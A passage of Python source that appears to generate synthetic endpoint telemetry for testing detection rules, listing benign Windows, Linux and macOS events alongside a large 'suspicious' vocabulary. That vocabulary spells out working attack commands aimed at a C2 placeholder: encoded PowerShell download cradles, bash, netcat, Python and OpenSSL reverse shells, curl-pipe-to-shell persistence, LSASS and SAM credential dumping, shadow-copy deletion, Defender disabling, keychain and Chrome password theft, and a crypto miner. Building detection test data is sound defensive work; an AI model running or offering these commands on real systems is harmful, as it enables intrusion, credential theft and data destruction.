    (6, r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"', "user", "dns", "outlook.office365.com", 53, "udp"),
    (5, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv", "sys", "dns", "settings-win.data.microsoft.com", 53, "udp"),
    (4, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv", "sys", "dns", "ctldl.windowsupdate.com", 53, "udp"),
    (4, W_TEAMS, "user", "dns", "teams.microsoft.com", 53, "udp"),
    (3, r'"C:\Program Files\Git\mingw64\bin\git.exe"', "user", "dns", "github.com", 53, "udp"),
)
LINUX_NET = (
    (20, "/usr/sbin/sshd -D -R", "root", "in", "10.0.0.5", 22, "tcp"),
    (15, "/usr/sbin/nginx -g 'daemon on; master_process on;'", "www-data", "in", "10.0.1.20", 443, "tcp"),
    (10, "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main", "postgres", "in", "10.0.12.31", 5432, "tcp"),
    (8, "/usr/lib/apt/methods/http", "_apt", "out", "91.189.91.83", 80, "tcp"),
    (8, "/usr/bin/node /srv/app/server.js", "www-data", "out", "10.0.40.12", 5432, "tcp"),
    (6, "node /usr/bin/npm ci", "jenkins", "out", "104.16.24.35", 443, "tcp"),
    (6, "/usr/bin/python3 -m pip install --user -r requirements.txt", "deploy", "out", "151.101.0.223", 443, "tcp"),
    (6, "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml", "root", "out", "10.0.0.10", 6443, "tcp"),
    (5, "/usr/bin/git fetch --prune origin", "jenkins", "out", "140.82.114.4", 443, "tcp"),
    (4, "/usr/bin/java -Xmx2g -jar /opt/app/service.jar", "deploy", "out", "10.0.40.12", 9092, "tcp"),
    (3, "/usr/sbin/chronyd -F 1", "_chrony", "out", "162.159.200.1", 123, "udp"),
    (12, "/usr/lib/systemd/systemd-resolved", "systemd-resolve", "dns", "archive.ubuntu.com", 53, "udp"),
    (6, "/usr/bin/node /srv/app/server.js", "www-data", "dns", "api.stripe.com", 53, "udp"),
    (4, "node /usr/bin/npm ci", "jenkins", "dns", "registry.npmjs.org", 53, "udp"),
    (3, "/usr/bin/python3 -m pip install", "deploy", "dns", "pypi.org", 53, "udp"),
)
MAC_NET = (
    (20, "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.Networking.xpc/Contents/MacOS/com.apple.WebKit.Networking", "U", "out", "17.253.144.10", 443, "tcp"),
    (15, M_CHROME, "U", "out", "142.250.72.14", 443, "tcp"),
    (8, "/Applications/Slack.app/Contents/MacOS/Slack", "U", "out", "52.89.137.107", 443, "tcp"),
    (6, "/Applications/zoom.us.app/Contents/MacOS/zoom.us", "U", "out", "170.114.52.2", 443, "udp"),
    (5, "/usr/libexec/trustd --agent", "U", "out", "17.253.21.203", 80, "tcp"),
    (4, "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/softwareupdated", "root", "out", "17.253.144.12", 443, "tcp"),
    (4, "/usr/bin/ssh git@github.com", "U", "out", "140.82.114.4", 22, "tcp"),
    (12, "/usr/sbin/mDNSResponder", "_mdnsresponder", "dns", "www.apple.com", 53, "udp"),
    (6, "/usr/sbin/mDNSResponder", "_mdnsresponder", "dns", "ocsp.apple.com", 53, "udp"),
    (5, "/usr/sbin/mDNSResponder", "_mdnsresponder", "dns", "slack.com", 53, "udp"),
    (3, "/usr/sbin/mDNSResponder", "_mdnsresponder", "dns", "github.com", 53, "udp"),
)

_RUN = r"HKEY_USERS\{sid}\Software\Microsoft\Windows\CurrentVersion\Run"
WIN_REG = (  # (weight, process cmd, user kind, path, data type, strings, action)
    (25, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BAM", "sys", r"HKLM\SYSTEM\ControlSet001\Services\bam\State\UserSettings\{sid}|\Device\HarddiskVolume3\Program Files\Google\Chrome\Application\chrome.exe", "REG_BINARY", [], "modification"),
    (20, W_EXPLORER, "user", r"HKEY_USERS\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx\MRUListEx", "REG_BINARY", [], "modification"),
    (12, W_EXPLORER, "user", r"HKEY_USERS\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\Count\HRZR_PGYFRFFVBA", "REG_BINARY", [], "modification"),
    (15, r'"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24030.9-0\MsMpEng.exe"', "sys", r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated", "REG_BINARY", [], "modification"),
    (10, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", "sys", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Microsoft\Windows\UpdateOrchestrator\Schedule Scan\Index", "REG_DWORD", ["3"], "modification"),
    (8, r"C:\Windows\servicing\TrustedInstaller.exe", "sys", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Component Based Servicing\SessionsPending\Exclusive", "REG_DWORD", ["0"], "modification"),
    (10, W_CHROME, "user", r"HKEY_USERS\{sid}\Software\Google\Chrome\BLBeacon\state", "REG_DWORD", ["1"], "modification"),
    (5, r'"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe"', "user", _RUN + r"\OneDrive", "REG_SZ", [r'"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background'], "modification"),
    (3, W_TEAMS, "user", _RUN + r"\com.squirrel.Teams.Teams", "REG_SZ", [r"C:\Users\{user}\AppData\Local\Microsoft\Teams\Update.exe --processStart \"Teams.exe\" --process-start-args \"--system-initiated\""], "modification"),
    (2, r"C:\Windows\servicing\TrustedInstaller.exe", "sys", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SecurityHealth", "REG_EXPAND_SZ", [r"%windir%\system32\SecurityHealthSystray.exe"], "modification"),
    (6, r"C:\Windows\system32\svchost.exe -k LocalService -p -s W32Time", "svc", r"HKLM\SYSTEM\ControlSet001\Services\W32Time\Config\LastKnownGoodTime", "REG_QWORD", ["133617216000000000"], "modification"),
    (6, r"C:\Windows\System32\svchost.exe -k NetworkService -p -s Dnscache", "svc", r"HKLM\SYSTEM\ControlSet001\Services\Tcpip\Parameters\Interfaces\{5f1c9e2a-7b3d-4e8f-a0b1-c2d3e4f5a6b7}\DhcpIPAddress", "REG_SZ", ["10.20.4.31"], "modification"),
    (4, W_EXPLORER, "user", r"HKEY_USERS\{sid}\Software\Microsoft\Windows\CurrentVersion\Explorer\Shell Folders\Desktop", "REG_SZ", [r"C:\Users\{user}\Desktop"], "modification"),
    (3, r"C:\Windows\System32\MsiExec.exe -Embedding", "sys", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\{4A03706F-666A-4037-7777-5F2748764D10}\DisplayVersion", "REG_SZ", ["124.0.6367.119"], "modification"),
    (4, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", "sys", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tasks\{8F1C2E9A-4B7D-4E5F-9A2B-1C0D9E8F7A6B}\DynamicInfo", "REG_BINARY", [], "deletion"),
)

# ---------------------------------------------------------------------------
# Vocabulary: suspicious (each satisfies or comes close to a bundled rule's condition)
# ---------------------------------------------------------------------------


def _ps_enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


PS_ENC = _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://%s/a')" % C2)

# ("p", process spec) | ("f", file spec) | ("n", network spec) | ("r", registry spec)
WIN_SUSP = (
    ("certutil_urlcache", "p", (1, r"certutil.exe -urlcache -split -f http://%s/p.exe C:\Users\Public\p.exe" % C2, W_CMD, "user")),
    ("certutil_decode", "p", (1, r"C:\Windows\system32\certutil.exe -decode C:\Users\{user}\AppData\Local\Temp\enc.txt C:\Users\{user}\AppData\Local\Temp\payload.dll", W_CMD, "user")),
    ("powershell_enc_from_word", "p", (1, r"powershell.exe -nop -w hidden -enc " + PS_ENC, W_WORD, "user")),
    ("powershell_enc_from_cmd", "p", (1, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc " + PS_ENC, W_CMD, "user")),
    ("powershell_iex_download", "p", (1, r"""powershell.exe -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')" """.strip() % C2, W_EXPLORER, "user")),
    ("powershell_defender_off", "p", (1, r"powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true", W_CMD, "admin")),
    ("cmd_from_word", "p", (1, r'C:\Windows\system32\cmd.exe /c "powershell -w hidden -c iwr http://%s/u.exe -OutFile $env:TEMP\u.exe; Start-Process $env:TEMP\u.exe"' % C2, W_WORD, "user")),
    ("mshta_url", "p", (1, r"C:\Windows\system32\mshta.exe http://%s/m.hta" % C2, W_EXPLORER, "user")),
    ("mshta_vbscript", "p", (1, r'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -enc %s"":close")' % PS_ENC[:40], W_EXPLORER, "user")),
    ("mshta_child_cmd", "p", (1, r"C:\Windows\system32\cmd.exe /c curl -o %%TEMP%%\s.exe http://%s/s.exe" % C2, r"C:\Windows\system32\mshta.exe http://%s/m.hta" % C2, "user")),
    ("rundll32_temp_dll", "p", (1, r"C:\Windows\system32\rundll32.exe C:\Users\{user}\AppData\Local\Temp\upd.dll,DllRegisterServer", W_EXPLORER, "user")),
    ("rundll32_comsvcs_minidump", "p", (1, r"C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\lsass.dmp full", W_CMD, "admin")),
    ("regsvr32_scrobj", "p", (1, r"regsvr32.exe /s /n /u /i:http://%s/file.sct scrobj.dll" % C2, W_CMD, "user")),
    ("wmic_process_create", "p", (1, r'wmic.exe process call create "powershell -nop -enc %s"' % PS_ENC[:60], W_CMD, "admin")),
    ("bitsadmin_transfer", "p", (1, r"bitsadmin.exe /transfer job1 /download /priority high http://%s/b.exe C:\Users\Public\b.exe" % C2, W_CMD, "user")),
    ("net_user_add", "p", (1, r"C:\Windows\system32\net.exe user svc_backup P@ssw0rd!2024 /add", W_CMD, "admin")),
    ("net_localgroup_admins", "p", (1, r"C:\Windows\system32\net.exe localgroup administrators svc_backup /add", W_CMD, "admin")),
    ("net_group_domain_admins", "p", (1, r'C:\Windows\system32\net.exe group "Domain Admins" /domain', W_CMD, "user")),
    ("schtasks_create", "p", (1, r'schtasks.exe /create /tn "\Microsoft\Windows\Maintenance\Update" /tr "C:\Users\Public\p.exe" /sc onlogon /ru SYSTEM /f', W_CMD, "admin")),
    ("vssadmin_delete_shadows", "p", (1, r"C:\Windows\system32\vssadmin.exe delete shadows /all /quiet", W_CMD, "admin")),
    ("bcdedit_recovery_off", "p", (1, r"bcdedit.exe /set {default} recoveryenabled no", W_CMD, "admin")),
    ("wevtutil_clear", "p", (1, r"wevtutil.exe cl Security", W_CMD, "admin")),
    ("reg_add_run", "p", (1, r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\Users\Public\p.exe /f", W_CMD, "user")),
    ("reg_save_sam", "p", (1, r"reg.exe save HKLM\SAM C:\Windows\Temp\sam.save", W_CMD, "admin")),
    ("whoami_from_w3wp", "p", (1, r"C:\Windows\system32\whoami.exe /all", r'c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool"', "svc")),
    ("wscript_js_download", "p", (1, r'"C:\Windows\System32\WScript.exe" "C:\Users\{user}\Downloads\invoice_8841.js"', W_EXPLORER, "user")),
    ("msbuild_inline", "p", (1, r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\build.xml", W_CMD, "user")),
    ("curl_exe_download", "p", (1, r"curl.exe -o C:\Users\Public\p.exe http://%s/p.exe" % C2, W_CMD, "user")),
    ("netsh_firewall_open", "p", (1, r'netsh.exe advfirewall firewall add rule name="allow" dir=in action=allow protocol=TCP localport=4444', W_CMD, "admin")),
    ("sc_create_service", "p", (1, r'sc.exe create UpdSvc binPath= "C:\Users\Public\svc.exe" start= auto', W_CMD, "admin")),
    ("self_delete", "p", (1, r'C:\Windows\system32\cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q "C:\Users\{user}\AppData\Local\Temp\x.exe"', r"C:\Users\{user}\AppData\Local\Temp\x.exe", "user")),
    ("nltest_trusts", "p", (1, r"nltest.exe /domain_trusts /all_trusts", W_CMD, "user")),
    ("masquerade_svchost_appdata", "p", (1, r"C:\Users\{user}\AppData\Roaming\svchost.exe -k netsvcs", W_EXPLORER, "user")),
    ("mpcmdrun_downloadfile", "p", (1, r'"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24030.9-0\MpCmdRun.exe" -DownloadFile -url http://%s/d.exe -path C:\Users\Public\d.exe' % C2, W_CMD, "user")),
    ("startup_vbs", "f", (1, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "user", r"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update.vbs", ("creation",))),
    ("startup_lnk_wscript", "f", (1, r"C:\Windows\System32\wscript.exe", "user", r"C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\sync.lnk", ("creation",))),
    ("certutil_drops_exe", "f", (1, r"C:\Windows\system32\certutil.exe", "user", r"C:\Users\Public\p.exe", ("creation",))),
    ("word_drops_hta", "f", (1, r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"', "user", r"C:\Users\{user}\AppData\Local\Temp\doc{n}.hta", ("creation",))),
    ("lsass_dump_file", "f", (1, r"C:\Windows\System32\rundll32.exe", "admin", r"C:\Windows\Temp\lsass.dmp", ("creation",))),
    ("iso_download", "f", (1, W_CHROME, "user", r"C:\Users\{user}\Downloads\invoice_8841.iso", ("creation",))),
    ("ransom_rename", "f", (1, r"C:\Users\{user}\AppData\Local\Temp\x.exe", "user", r"C:\Users\{user}\Documents\report-{n}.docx.locked", ("rename",))),
    ("ransom_note", "f", (1, r"C:\Users\{user}\AppData\Local\Temp\x.exe", "user", r"C:\Users\{user}\Desktop\README_TO_DECRYPT.txt", ("creation",))),
    ("run_key_public_exe", "r", (1, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "user", _RUN + r"\Updater", "REG_SZ", [r"C:\Users\Public\p.exe"], "modification")),
    ("runonce_cmd", "r", (1, r"C:\Windows\system32\reg.exe", "admin", r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\Setup", "REG_SZ", [r"cmd.exe /c start C:\Users\Public\p.exe"], "modification")),
    ("ifeo_debugger", "r", (1, r"C:\Windows\system32\reg.exe", "admin", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger", "REG_SZ", [r"C:\Windows\System32\cmd.exe"], "modification")),
    ("winlogon_userinit", "r", (1, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "admin", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit", "REG_SZ", [r"C:\Windows\system32\userinit.exe,C:\Users\Public\p.exe"], "modification")),
    ("service_imagepath_comspec", "r", (1, r"C:\Windows\system32\services.exe", "sys", r"HKLM\SYSTEM\ControlSet001\Services\UpdSvc\ImagePath", "REG_EXPAND_SZ", [r"%COMSPEC% /c powershell -nop -enc " + PS_ENC[:40]], "modification")),
    ("ms_settings_uac_bypass", "r", (1, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "user", r"HKEY_USERS\{sid}_Classes\ms-settings\Shell\Open\command\DelegateExecute", "REG_SZ", [""], "modification")),
    ("defender_disabled", "r", (1, r"C:\Windows\system32\reg.exe", "admin", r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware", "REG_DWORD", ["1"], "modification")),
    ("rdp_enabled", "r", (1, r"C:\Windows\system32\reg.exe", "admin", r"HKLM\SYSTEM\ControlSet001\Control\Terminal Server\fDenyTSConnections", "REG_DWORD", ["0"], "modification")),
    ("wdigest_enabled", "r", (1, r"C:\Windows\system32\reg.exe", "admin", r"HKLM\SYSTEM\ControlSet001\Control\SecurityProviders\WDigest\UseLogonCredential", "REG_DWORD", ["1"], "modification")),
    ("certutil_netcon", "n", (1, r"C:\Windows\system32\certutil.exe", "user", "out", C2, 80, "tcp")),
    ("powershell_netcon", "n", (1, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "user", "out", C2, 443, "tcp")),
    ("rundll32_netcon", "n", (1, r"C:\Windows\system32\rundll32.exe", "user", "out", C2B, 8443, "tcp")),
    ("powershell_dns_raw_github", "n", (1, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "user", "dns", "raw.githubusercontent.com", 53, "udp")),
    ("dns_pastebin", "n", (1, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "user", "dns", "pastebin.com", 53, "udp")),
    ("dns_ngrok", "n", (1, r"C:\Users\{user}\AppData\Local\Temp\x.exe", "user", "dns", "a1b2c3d4.ngrok-free.app", 53, "udp")),
    ("dns_trycloudflare", "n", (1, r"C:\Users\Public\cloudflared.exe", "user", "dns", "wet-lake-fancy.trycloudflare.com", 53, "udp")),
    ("dns_telegram", "n", (1, r"C:\Users\{user}\AppData\Roaming\svchost.exe", "user", "dns", "api.telegram.org", 53, "udp")),
    ("rdp_from_internet", "n", (1, r"C:\Windows\System32\svchost.exe -k termsvcs -s TermService", "svc", "in", "89.160.20.156", 3389, "tcp")),
)

LINUX_SUSP = (
    ("curl_pipe_sh_parent", "p", (1, "/bin/sh -c 'curl -fsSL http://%s/install.sh | sh'" % C2, "/usr/bin/python3 /srv/app/worker.py", "www-data")),
    ("curl_pipe_sh_curl", "p", (1, "curl -fsSL http://%s/install.sh" % C2, "/bin/sh -c 'curl -fsSL http://%s/install.sh | sh'" % C2, "www-data")),
    ("curl_pipe_sh_sh", "p", (1, "sh", "/bin/sh -c 'curl -fsSL http://%s/install.sh | sh'" % C2, "www-data")),
    ("wget_pipe_bash", "p", (1, "bash -c 'wget -qO- http://%s/x.sh | bash'" % C2, "/usr/sbin/cron -f -P", "root")),
    ("bash_dev_tcp", "p", (1, "/bin/bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1'" % C2, "/usr/bin/php-fpm8.1", "www-data")),
    ("bash_interactive_child", "p", (1, "bash -i", "/bin/bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1'" % C2, "www-data")),
    ("nc_exec", "p", (1, "nc -e /bin/sh %s 4444" % C2, L_BASH, "www-data")),
    ("nc_listener", "p", (1, "nc -lvnp 4444", L_BASH, "U")),
    ("python_reverse_shell", "p", (1, "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"%s\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'" % C2, L_BASH, "www-data")),
    ("python_pty_spawn", "p", (1, "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "/bin/sh -i", "www-data")),
    ("base64_decode_pipe", "p", (1, "base64 -d", "bash -c 'echo Y3VybCAtcyBodHRwOi8vMTg1LjIyMC4xMDEuNDcveCB8IHNo | base64 -d | bash'", "root")),
    ("exec_from_tmp_hidden", "p", (1, "/tmp/.x", L_BASH, "www-data")),
    ("exec_from_dev_shm", "p", (1, "/dev/shm/kworker -c /dev/shm/.cfg", "/bin/sh -c /dev/shm/kworker", "root")),
    ("chmod_tmp", "p", (1, "chmod +x /tmp/.x", L_BASH, "www-data")),
    ("crontab_stdin", "p", (1, "crontab -", "bash -c '(crontab -l; echo \"*/5 * * * * curl -s http://%s/s.sh | sh\") | crontab -'" % C2, "root")),
    ("useradd_backdoor", "p", (1, "useradd -m -s /bin/bash -G sudo sysadm", "sudo useradd -m -s /bin/bash -G sudo sysadm", "root")),
    ("usermod_sudo", "p", (1, "usermod -aG sudo sysadm", L_BASH, "root")),
    ("systemctl_enable_unit", "p", (1, "systemctl enable --now kworkerd.service", L_BASH, "root")),
    ("history_clear", "p", (1, "bash -c 'unset HISTFILE; export HISTFILESIZE=0; history -c'", L_BASH, "root")),
    ("insmod_tmp", "p", (1, "insmod /tmp/rk.ko", L_BASH, "root")),
    ("setenforce_0", "p", (1, "setenforce 0", L_BASH, "root")),
    ("stop_auditd", "p", (1, "systemctl stop auditd", L_BASH, "root")),
    ("ufw_disable", "p", (1, "ufw disable", L_BASH, "root")),
    ("iptables_flush", "p", (1, "iptables -F", L_BASH, "root")),
    ("suid_enum", "p", (1, "find / -perm -4000 -type f", L_BASH, "www-data")),
    ("cat_shadow", "p", (1, "cat /etc/shadow", L_BASH, "www-data")),
    ("grep_aws_creds_host", "p", (1, "grep -r aws_access_key_id /home", L_BASH, "www-data")),
    ("openssl_revshell", "p", (1, "openssl s_client -quiet -connect %s:443" % C2, "/bin/sh -c 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect %s:443 > /tmp/s'" % C2, "www-data")),
    ("socat_exec", "p", (1, "socat TCP:%s:4444 EXEC:/bin/bash" % C2, L_BASH, "www-data")),
    ("xmrig_miner", "p", (1, "/tmp/.cache/xmrig --donate-level 1 -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls", "/bin/sh -c /tmp/.cache/xmrig", "www-data")),
    ("chattr_immutable", "p", (1, "chattr +i /etc/passwd", L_BASH, "root")),
    ("journalctl_vacuum", "p", (1, "journalctl --vacuum-time=1s", L_BASH, "root")),
    ("shred_auth_log", "p", (1, "shred -u /var/log/auth.log", L_BASH, "root")),
    ("docker_privileged_escape", "p", (1, "docker run --rm --privileged -v /:/host alpine chroot /host sh", L_BASH, "U")),
    ("kubectl_apply_url", "p", (1, "kubectl apply -f http://%s/pod.yaml" % C2, L_BASH, "U")),
    ("dmidecode_vm", "p", (1, "dmidecode -s system-manufacturer", "/bin/sh -c 'dmidecode -s system-manufacturer'", "root")),
    ("curl_ip_lookup", "p", (1, "curl -s http://ifconfig.me", "/bin/sh -c 'curl -s http://ifconfig.me'", "www-data")),
    ("sudo_uid_minus1", "p", (1, "sudo -u#-1 /bin/bash", L_BASH, "U")),
    ("gdb_attach", "p", (1, "gdb -p 1234 -batch -ex 'dump memory /tmp/mem 0x5600 0x5700'", L_BASH, "root")),
    ("authorized_keys_echo", "p", (1, "bash -c 'echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGqX attacker >> /root/.ssh/authorized_keys'", L_BASH, "root")),
    ("cron_d_file", "f", (1, "/usr/bin/bash", "root", "/etc/cron.d/sysupdate", ("creation",))),
    ("crontab_spool_file", "f", (1, "/usr/bin/python3", "root", "/var/spool/cron/crontabs/root", ("creation", "rename"))),
    ("systemd_unit_file", "f", (1, "/usr/bin/curl", "root", "/etc/systemd/system/kworkerd.service", ("creation",))),
    ("user_systemd_unit", "f", (1, "/usr/bin/bash", "U", "/home/{user}/.config/systemd/user/dbus-update.service", ("creation",))),
    ("ld_so_preload", "f", (1, "/usr/bin/bash", "root", "/etc/ld.so.preload", ("creation", "modification"))),
    ("authorized_keys_mod", "f", (1, "/usr/bin/bash", "root", "/root/.ssh/authorized_keys", ("modification", "creation"))),
    ("authorized_keys_delete", "f", (1, "/usr/bin/rm", "U", "/home/{user}/.ssh/authorized_keys", ("deletion",))),
    ("dev_shm_hidden", "f", (1, "/usr/bin/curl", "www-data", "/dev/shm/.x", ("creation",))),
    ("tmp_hidden_binary", "f", (1, "/usr/bin/wget", "www-data", "/tmp/.x", ("creation",))),
    ("sudoers_d", "f", (1, "/usr/bin/bash", "root", "/etc/sudoers.d/99-sysadm", ("creation",))),
    ("motd_script", "f", (1, "/usr/bin/bash", "root", "/etc/update-motd.d/99-update", ("creation",))),
    ("init_d_script", "f", (1, "/usr/bin/bash", "root", "/etc/init.d/sysupd", ("creation",))),
    ("rc_local", "f", (1, "/usr/bin/bash", "root", "/etc/rc.local", ("modification", "creation"))),
    ("shadow_write_python", "f", (1, "/usr/bin/python3", "root", "/etc/shadow", ("modification",))),
    ("pth_file", "f", (1, "/usr/bin/python3", "root", "/usr/lib/python3/dist-packages/zz-init.pth", ("creation",))),
    ("bashrc_mod_curl", "f", (1, "/usr/bin/curl", "U", "/home/{user}/.bashrc", ("modification",))),
    ("udev_rule", "f", (1, "/usr/bin/bash", "root", "/etc/udev/rules.d/99-usb.rules", ("creation",))),
    ("pam_module", "f", (1, "/usr/bin/cp", "root", "/lib/x86_64-linux-gnu/security/pam_unix2.so", ("creation",))),
    ("bash_netcon_c2", "n", (1, "/usr/bin/bash", "www-data", "out", C2, 4444, "tcp")),
    ("nc_netcon_c2", "n", (1, "/usr/bin/nc", "www-data", "out", C2, 4444, "tcp")),
    ("python_netcon_c2", "n", (1, "/usr/bin/python3", "www-data", "out", C2, 4444, "tcp")),
    ("openssl_netcon_c2", "n", (1, "/usr/bin/openssl", "www-data", "out", C2, 443, "tcp")),
    ("socat_netcon", "n", (1, "/usr/bin/socat", "www-data", "out", C2, 4444, "tcp")),
    ("curl_telegram", "n", (1, "/usr/bin/curl", "www-data", "dns", "api.telegram.org", 53, "udp")),
    ("dns_sus_tld", "n", (1, "/tmp/.x", "www-data", "dns", "update-check.xyz", 53, "udp")),
    ("dns_miner_pool", "n", (1, "/tmp/.cache/xmrig", "www-data", "dns", "pool.supportxmr.com", 53, "udp")),
    ("ssh_from_internet", "n", (1, "/usr/sbin/sshd", "root", "in", "89.160.20.156", 22, "tcp")),
    ("telnet_out", "n", (1, "/usr/bin/telnet", "U", "out", "10.0.40.9", 23, "tcp")),
)

MAC_SUSP = (
    ("osascript_password_prompt", "p", (1, "osascript -e 'display dialog \"macOS needs to access System Settings. Enter your password\" default answer \"\" with hidden answer with title \"System Preferences\"'", "/Users/Shared/.agent", "U")),
    ("osascript_admin_shell", "p", (1, "osascript -e 'do shell script \"curl -s http://%s/x | sh\" with administrator privileges'" % C2, "/bin/zsh -c /Users/{user}/Downloads/Setup.command", "U")),
    ("osascript_hidden_login_item", "p", (1, "osascript -e 'tell application \"System Events\" to make login item at end with properties {path:\"/Users/{user}/.local/agent\", hidden:true}'", "/Users/Shared/.agent", "U")),
    ("launchctl_load_agent", "p", (1, "launchctl load -w /Users/{user}/Library/LaunchAgents/com.apple.update.agent.plist", "/bin/zsh -c /Users/{user}/Downloads/Setup.command", "U")),
    ("launchctl_setenv", "p", (1, "launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib", "/Users/Shared/.agent", "U")),
    ("curl_to_tmp_hidden", "p", (1, "curl -s -o /tmp/.update http://%s/m" % C2, "/bin/zsh -c /Users/{user}/Downloads/Setup.command", "U")),
    ("chmod_tmp_hidden", "p", (1, "chmod +x /tmp/.update", "/bin/zsh -c /Users/{user}/Downloads/Setup.command", "U")),
    ("security_dump_keychain", "p", (1, "security dump-keychain -d /Users/{user}/Library/Keychains/login.keychain-db", "/bin/sh -c /tmp/.update", "U")),
    ("security_find_chrome_pwd", "p", (1, "security find-generic-password -wa Chrome", "/bin/sh -c /tmp/.update", "U")),
    ("dscl_create_hidden_user", "p", (1, "dscl . -create /Users/.hidden IsHidden 1", "/bin/sh -c /tmp/.update", "root")),
    ("dseditgroup_admin", "p", (1, "dseditgroup -o edit -a hidden -t user admin", "/bin/sh -c /tmp/.update", "root")),
    ("loginhook_defaults", "p", (1, "defaults write com.apple.loginwindow LoginHook /Users/Shared/.hook.sh", "/bin/sh -c /tmp/.update", "root")),
    ("xattr_quarantine", "p", (1, "xattr -d com.apple.quarantine /Users/{user}/Downloads/Installer.app", "/bin/zsh -il", "U")),
    ("spctl_disable", "p", (1, "spctl --master-disable", "/bin/sh -c /tmp/.update", "root")),
    ("sqlite_chrome_logins", "p", (1, "sqlite3 '/Users/{user}/Library/Application Support/Google/Chrome/Default/Login Data' 'select origin_url, username_value, password_value from logins'", "/bin/sh -c /tmp/.update", "U")),
    ("python_exec_url", "p", (1, "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://%s/p').read())\"" % C2, "/bin/zsh -il", "U")),
    ("curl_ip_lookup_from_osascript", "p", (1, "curl -s https://api.ipify.org", "osascript /Users/Shared/.run.scpt", "U")),
    ("csrutil_status", "p", (1, "csrutil status", "/Users/Shared/.agent", "U")),
    ("system_profiler_from_unsigned", "p", (1, "system_profiler SPHardwareDataType SPDisplaysDataType", "/Users/Shared/.agent", "U")),
    ("pbpaste_from_osascript", "p", (1, "pbpaste", "osascript /Users/Shared/.run.scpt", "U")),
    ("networksetup_proxy", "p", (1, "networksetup -setwebproxy Wi-Fi 127.0.0.1 8080", "/bin/sh -c /tmp/.update", "root")),
    ("launch_agent_plist", "f", (1, "/usr/bin/curl", "U", "/Users/{user}/Library/LaunchAgents/com.apple.update.agent.plist", ("creation",))),
    ("launch_daemon_plist", "f", (1, "/usr/bin/python3", "root", "/Library/LaunchDaemons/com.apple.sysmond.plist", ("creation",))),
    ("at_tabs_mod", "f", (1, "/bin/bash", "U", "/private/var/at/tabs/{user}", ("modification",))),
    ("zshrc_mod", "f", (1, "/usr/bin/curl", "U", "/Users/{user}/.zshrc", ("modification",))),
